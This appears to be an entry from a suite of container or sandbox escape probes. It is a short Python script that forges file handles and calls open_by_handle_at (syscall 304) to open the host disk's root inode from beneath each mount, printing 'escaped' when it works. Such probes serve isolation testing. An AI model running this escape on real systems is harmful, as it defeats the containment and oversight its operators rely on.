# Category: kernel interfaces in /proc and /sys
# Escape: opens the root of the machine's disk by its number, past every mount and every root directory.
# Sign: said
python3 - <<'PYTHON'
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
for line in open("/proc/self/mountinfo"):
    place = line.split()[4]
    if place.startswith(("/proc", "/sys", "/dev")): continue
    try: mount = os.open(place, os.O_RDONLY)
    except OSError: continue
    for inode in (2, 128):
        handle = struct.pack("<IiII", 8, 1, inode, 0)
        if libc.syscall(304, mount, handle, os.O_RDONLY | os.O_DIRECTORY) >= 0: print("escaped: opened inode", inode, "below", place)
    os.close(mount)
PYTHON
